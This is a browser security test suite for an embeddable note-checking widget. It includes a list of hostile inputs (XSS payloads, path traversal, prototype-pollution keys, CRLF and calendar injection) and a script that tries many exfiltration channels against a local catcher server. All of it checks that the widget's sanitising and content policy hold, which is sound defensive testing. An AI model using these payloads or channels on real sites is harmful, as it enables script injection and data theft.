"""The widget against strangers: hostile settings, texts and messages; what it asks for; what its policy really stops."""

import json
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, expect

from tests.browser.embed.host import (
    DRAFT,
    START_MS,
    Host,
    expect_the_demand,
    iframe,
    inside,
    line,
    open_host,
    settle,
    widget,
    write,
)

HOSTILE = (
    "<script>document.title='broken'</script>",
    "<img src=x onerror=\"document.title='broken'\">",
    "\"><svg onload=\"document.title='broken'\">",
    "javascript:document.title='broken'",
    "data:text/html,<script>parent.document.title='broken'</script>",
    "</textarea><iframe srcdoc='<script>top.document.title=1</script>'></iframe>",
    "';document.title='broken';//",
    "${document.title='broken'}{{7*7}}",
    "red; } :root { --ink: red } @import url(https://192.0.2.1/x.css)",
    "#005ea2; background: url(https://192.0.2.1/)",
    "url(https://192.0.2.1/)",
    "https://192.0.2.1/",
    "//192.0.2.1/",
    "../../../etc/passwd",
    "__proto__",
    "constructor",
    "toString",
    "\u202echeck\u202c",
    "ｃｈｅｃｋ",
    "che\u200bck",
    "thank\u2011you",
    "#００５ｅａ２",
    "\ud7ff\ufffe\x00\x07",
    "𝓬𝓱𝓮𝓬𝓴",
    "%00%0d%0aSet-Cookie: a=b",
    "-1e999",
    "A" * 20_000,
)  # fmt: skip
SETTINGS = ("tool", "kind", "accent", "theme", "lang", "powered", "fit", "outline", "unknown")
FACTS = ("company", "role", "interviewers", "topics", "interview_date", "promised_date", "other_employers")

DEFAULT = {"lang": "en", "theme": "auto", "title": "Check a draft", "kind": "thank-you", "accent": "#1f5f57"}
LOOK = """() => ({
  lang: document.documentElement.lang, theme: document.documentElement.dataset.theme, title: document.title,
  kind: document.querySelector("input[name=fnc-kind]:checked")?.value,
  accent: getComputedStyle(document.documentElement).getPropertyValue("--accent"),
})"""
FOREIGN_ELEMENTS = "main :is(img, svg, script, iframe, object, embed, style, link, b), body > :not(main)"


@pytest.fixture
def free(browser: Browser) -> Iterator[Page]:
    """A page whose requests are not watched here, since those that a policy stops are told of as well."""
    page = browser.new_page()
    yield page
    page.close()


@pytest.fixture
def catcher() -> Iterator[Host]:
    """A server elsewhere that must never be asked for anything."""
    with open_host("localhost") as opened:
        yield opened


def clean(page: Page) -> None:
    expect(page.get_by_label("Your note")).to_be_visible()
    assert page.evaluate("document.title") == "Check a draft"
    assert page.locator(FOREIGN_ELEMENTS).count() == 0


# Settings ------------------------------------------------------------------------


def test_each_hostile_setting_gives_way_to_the_default(page: Page, site: str) -> None:
    page.goto(f"{site}/embed/")
    read = page.evaluate(
        """async ([names, values]) => {
          const { readSettings } = await import(new URL("../assets/app/embed/settings.mjs", location).href);
          const plain = JSON.stringify(readSettings({ search: "", hash: "" }));
          return names.flatMap((name) => values.filter((value) => {
            const search = `?${new URLSearchParams([[name, value], ["after", "1"]])}`;
            return JSON.stringify(readSettings({ search, hash: "" })) !== plain;
          }));
        }""",
        [SETTINGS, HOSTILE],
    )
    assert read == []


def test_all_settings_hostile_at_once_leave_the_page_as_it_is(page: Page, site: str) -> None:
    for value in HOSTILE:
        query = "&".join(f"{name}={quote(value[:2000])}" for name in SETTINGS)
        page.goto(f"{site}/embed/?{query}#{quote(value[:2000])}")
        clean(page)
        assert page.evaluate(LOOK) == DEFAULT, value[:60]


def test_every_setting_hostile_at_once_through_the_script_line(page: Page, host: Host, site: str) -> None:
    page.goto(host.origin)
    for value in HOSTILE:
        page.evaluate(
            """([src, value]) => {
              document.querySelector("iframe")?.remove();
              const script = document.createElement("script");
              for (const name of ["tool", "kind", "accent", "theme", "lang", "powered", "title"]) script.dataset[name] = value;
              script.src = src;
              document.querySelector("main").append(script);
            }""",
            [f"{site}/embed.js", value],
        )
        expect(widget(page).get_by_label("Your note")).to_be_visible()
        assert inside(page).evaluate(LOOK) == DEFAULT, value[:60]
        assert inside(page).url.startswith(f"{site}/embed/?")
        assert len(inside(page).url) < 2500
    assert page.title() == "Careers"


def test_a_setting_given_twice_or_in_capitals_or_with_spaces(page: Page, site: str) -> None:
    for query in (
        "tool=CHECK&theme=%20dark",
        "kind=Thank-You&kind=feedback",
        "tool[]=today",
        "accent=%23005ea&accent=fff",
    ):
        page.goto(f"{site}/embed/?{query}")
        expect(page.get_by_label("Your note")).to_be_visible()
        assert page.evaluate(LOOK) == DEFAULT, query


# Texts ---------------------------------------------------------------------------


def test_hostile_text_and_facts_are_text_everywhere(page: Page, site: str) -> None:
    facts = "&".join(f"{name}={quote(HOSTILE[at])}" for at, name in enumerate(FACTS))
    plain = " I enjoyed hearing about the way that your two teams share one plan for the whole of the week."
    whole = "\n\n".join(value + plain for value in HOSTILE if len(value) < 200 and "\x00" not in value)
    draft = f"Dear <b onmouseover=alert(1)>Ada</b>,\n\nI need an answer by Friday <img src=x onerror=alert(1)>.\n\n{whole}"
    page.goto(f"{site}/embed/#{facts}&text={quote(draft)}")
    expect(page.get_by_label("Your note")).to_have_value(draft)
    page.get_by_label("Your note").focus()
    settle(page.main_frame)  # type: ignore[arg-type]
    expect(page.locator("li.fnc-finding").first).to_be_visible(timeout=START_MS)
    for toggle in page.locator(".fnc-toggle[aria-expanded=false]").all():
        toggle.click()
    assert page.locator(FOREIGN_ELEMENTS).count() == 0
    assert page.title() == "Check a draft"
    expect(page.get_by_label("Company", exact=True)).to_have_value(HOSTILE[0])
    hrefs = page.eval_on_selector_all("a[href]", "(all) => all.map((link) => link.protocol)")
    assert set(hrefs) <= {"http:", "https:"}
    with page.expect_download() as file:
        page.get_by_role("button", name="Download").click()
    assert file.value.suggested_filename == "thank-you-note.txt"
    with Path(file.value.path()).open(encoding="utf-8", newline="") as written:
        assert written.read() == draft


def test_a_hostile_company_stays_one_line_of_the_calendar(page: Page, site: str) -> None:
    page.goto(f"{site}/embed/?tool=today&interview=2025-06-02")
    page.evaluate(
        "(company) => sessionStorage.setItem('fournotes.facts', JSON.stringify({ company }))",
        "Evil\r\nBEGIN:VALARM\r\nATTACH:https://192.0.2.1/<b>;,\\",
    )
    page.get_by_label("Day of the interview").first.focus()
    with page.expect_download(timeout=START_MS) as file:
        page.get_by_role("button", name="Add to calendar").click(timeout=START_MS)
    with Path(file.value.path()).open(encoding="utf-8", newline="") as written:
        lines = written.read().split("\r\n")
    assert lines[0] == "BEGIN:VCALENDAR"
    assert not [each for each in lines if each.startswith(("ATTACH", "BEGIN:VALARM\nATTACH"))]
    assert any("Evil" in each for each in lines)


# Messages ------------------------------------------------------------------------


def test_the_host_hears_the_verdict_and_counts_and_never_a_word(page: Page, host: Host, site: str) -> None:
    page.add_init_script("window.heard = []; addEventListener('message', ({ data }) => heard.push(data));")
    host.body = line(site, tool="check", kind="follow-up")
    page.goto(host.origin)
    widget(page).get_by_text("Add facts to sharpen the check").click()
    widget(page).get_by_label("Company", exact=True).fill("Harbour Foods")
    write(widget(page), DRAFT)
    expect_the_demand(widget(page))
    page.wait_for_timeout(500)
    heard = page.evaluate("heard")
    kinds = {message["type"] for message in heard}
    assert kinds == {"fournotes:height", "fournotes:checked"}
    for message in heard:
        if message["type"] == "fournotes:height":
            assert set(message) == {"type", "height"}
            assert isinstance(message["height"], int)
        else:
            assert set(message) == {"type", "kind", "verdict", "counts"}
            assert message["kind"] == "follow-up"
            assert message["verdict"] in ("ready", "nearly", "not yet")
            assert set(message["counts"]) == {"error", "warn", "info"}
            assert all(isinstance(count, int) for count in message["counts"].values())
    said = json.dumps(heard).lower()
    assert not [word for word in (DRAFT + " Harbour Foods").lower().split() if len(word) > 6 and word in said]


def test_the_widget_takes_no_orders(page: Page, host: Host, site: str) -> None:
    host.body = iframe(f"{site}/embed/#?secret=abc")
    page.goto(host.origin)
    write(widget(page), DRAFT)
    expect_the_demand(widget(page))
    expect(widget(page).get_by_text("The checker is on its way")).to_have_count(0)
    before = inside(page).evaluate("document.body.innerText")
    page.evaluate(
        """(hostile) => {
          const frame = document.querySelector("iframe").contentWindow;
          for (const text of hostile)
            for (const data of [text, [text], { type: text }, { type: "fournotes:height", height: text }, { message: text, secret: "abc" },
              { message: "ready", secret: text }, { do: "check", text }, { id: 1, request: { do: "check", text } }, { start: {} }, null, new ArrayBuffer(8)])
              frame.postMessage(data, "*");
          for (let i = 0; i < 2000; i++) frame.postMessage({ message: "ready", secret: "abc" }, "*");
        }""",
        list(HOSTILE),
    )
    page.wait_for_timeout(500)
    assert inside(page).evaluate("document.body.innerText") == before
    expect(widget(page).get_by_label("Your note")).to_have_value(DRAFT)


def test_a_click_that_was_not_meant_does_nothing_of_consequence(page: Page, host: Host, site: str) -> None:
    """Every button of the checker pressed blindly, as a page laid over the frame could make a visitor do."""
    host.body = line(site, tool="check")
    page.goto(host.origin)
    write(widget(page), DRAFT)
    expect_the_demand(widget(page))
    messages = "window.heard = []; addEventListener('message', ({ data }) => heard.push(data.type));"
    page.evaluate(f"() => {{ {messages} }}")
    widget(page).get_by_role("button", name="Clear").click()
    expect(widget(page).get_by_label("Your note")).to_have_value("")
    widget(page).get_by_role("button", name="Bring it back").click()
    expect(widget(page).get_by_label("Your note")).to_have_value(DRAFT)
    assert inside(page).evaluate("document.forms.length") == 0
    assert not widget(page).get_by_text("False alarm?").first.is_visible(), (
        "no button carries words to another site"
    )
    assert set(page.evaluate("heard")) <= {"fournotes:height", "fournotes:checked"}
    assert page.url == f"{host.origin}/"


# What is asked for ---------------------------------------------------------------


@pytest.mark.parametrize("sandbox", ["", 'sandbox="allow-scripts"'], ids=["plain", "no origin"])
def test_a_whole_session_asks_its_own_site_alone_and_then_nothing(
    page: Page, guest: BrowserContext, host: Host, site: str, sandbox: str
) -> None:
    asked: list[str] = []
    sent: list[dict[str, str]] = []
    guest.on("request", lambda request: (asked.append(request.url), sent.append(request.all_headers())))  # type: ignore[func-returns-value]
    host.body = iframe(f"{site}/embed/", sandbox)
    page.goto(host.origin)
    expect(widget(page).get_by_label("Your note")).to_be_visible()
    page.wait_for_timeout(1000)
    assert not [url for url in asked if "/assets/engine/" in url], "the runtime waits until somebody writes"
    write(widget(page), "Dear Ada,\n\nThank you.\n\nSam")
    expect(widget(page).locator("li.fnc-finding").first).to_be_visible(timeout=START_MS)
    until_ready = len(asked)
    for words in (DRAFT, DRAFT * 3, "", DRAFT):
        write(widget(page), words)
    for kind in ("Follow-up", "Exception", "Feedback", "Thank-you"):
        widget(page).get_by_role("radio", name=kind).check()
        settle(widget(page))
    widget(page).get_by_role("button", name="Copy").click()
    widget(page).get_by_text("Add facts to sharpen the check").click()
    widget(page).get_by_label("Company", exact=True).fill("Harbour Foods")
    settle(widget(page))
    page.wait_for_timeout(500)
    assert asked[until_ready:] == []
    assert all(url.startswith((f"{site}/", f"blob:{site}/", host.origin)) for url in asked)
    assert "Ada" not in " ".join(asked)
    ours = [headers for url, headers in zip(asked, sent, strict=True) if url.startswith(f"{site}/assets/")]
    assert ours
    assert not [headers for headers in ours if "cookie" in headers]
    # A style's font and a module's import name the style and the module; nothing ever names the page.
    assert {headers.get("referer", f"{site}/assets/").startswith(f"{site}/assets/") for headers in ours} == {
        True
    }
    assert guest.cookies() == []


def test_it_works_without_any_network_once_it_is_ready(
    page: Page, guest: BrowserContext, host: Host, site: str
) -> None:
    host.body = line(site, tool="check")
    page.goto(host.origin)
    write(widget(page), "Dear Ada,\n\nThank you.\n\nSam")
    expect(widget(page).locator("li.fnc-finding").first).to_be_visible(timeout=START_MS)
    guest.set_offline(True)
    write(widget(page), DRAFT)
    expect_the_demand(widget(page))


# The policy ----------------------------------------------------------------------

WAYS_OUT = """async (there) => {
  const stopped = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.push(effectiveDirective));
  const quietly = (act) => { try { return Promise.resolve(act()).catch(() => {}); } catch { return Promise.resolve(); } };
  await quietly(() => fetch(there + "fetch", { method: "POST", body: "words", mode: "no-cors" }));
  await quietly(() => import(there + "import.mjs"));
  await quietly(() => { const request = new XMLHttpRequest(); request.open("GET", there + "xhr"); request.send(); });
  await quietly(() => { new WebSocket(there.replace("http", "ws") + "socket"); });
  await quietly(() => { new EventSource(there + "events"); });
  await quietly(() => navigator.sendBeacon?.(there + "beacon", "words"));
  if (globalThis.document) {
    const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
    add("img", { src: there + "image" });
    add("script", { src: there + "script" });
    add("iframe", { src: there + "frame" });
    add("link", { rel: "stylesheet", href: there + "style" });
    add("link", { rel: "prefetch", href: there + "prefetch" });
    add("object", { data: there + "object" });
    add("video", { src: there + "video" });
    add("audio", { src: there + "audio" });
    add("style", { textContent: `body { background: url(${there}background) }` });
    document.body.setAttribute("style", `background: url(${there}attribute)`);
    add("form", { action: there + "form", method: "post", target: "_self" });
    document.forms[0].submit();
    await quietly(() => new FontFace("x", `url(${there}font)`).load());
    await quietly(() => new Function("return 1")());
    await quietly(() => navigator.serviceWorker?.register(there + "worker.js"));
  } else {
    await quietly(() => importScripts(there + "script"));
  }
  await new Promise((done) => setTimeout(done, 1500));
  return [...new Set(stopped)].sort();
}"""


def test_the_policy_stops_every_planted_way_out_of_the_page(
    free: Page, host: Host, catcher: Host, site: str
) -> None:
    host.body = iframe(f"{site}/embed/")
    free.goto(host.origin)
    write(widget(free), DRAFT)
    stopped = inside(free).evaluate(WAYS_OUT, f"{catcher.origin}/")
    assert {
        "connect-src",
        "img-src",
        "script-src-elem",
        "frame-src",
        "form-action",
        "media-src",
        "object-src",
    } <= set(stopped)
    assert catcher.asked == []


def test_the_policy_stops_every_planted_way_out_of_the_worker(
    free: Page, host: Host, catcher: Host, site: str
) -> None:
    host.body = iframe(f"{site}/embed/")
    free.goto(host.origin)
    write(widget(free), DRAFT)
    (worker,) = free.workers
    assert worker.url.startswith(f"blob:{site}/")
    assert "connect-src" in worker.evaluate(WAYS_OUT, f"{catcher.origin}/")
    assert catcher.asked == []


def test_the_same_ways_lead_out_where_there_is_no_policy(free: Page, host: Host, catcher: Host) -> None:
    """The catcher catches: the two tests above could fail."""
    free.goto(host.origin)
    with suppress(Error):  # the form may lead the page away, which ends the script
        free.evaluate(WAYS_OUT, f"{catcher.origin}/")
    free.wait_for_timeout(500)
    caught = {path.strip("/") for path in catcher.asked}
    assert {"fetch", "xhr", "image", "script"} <= caught
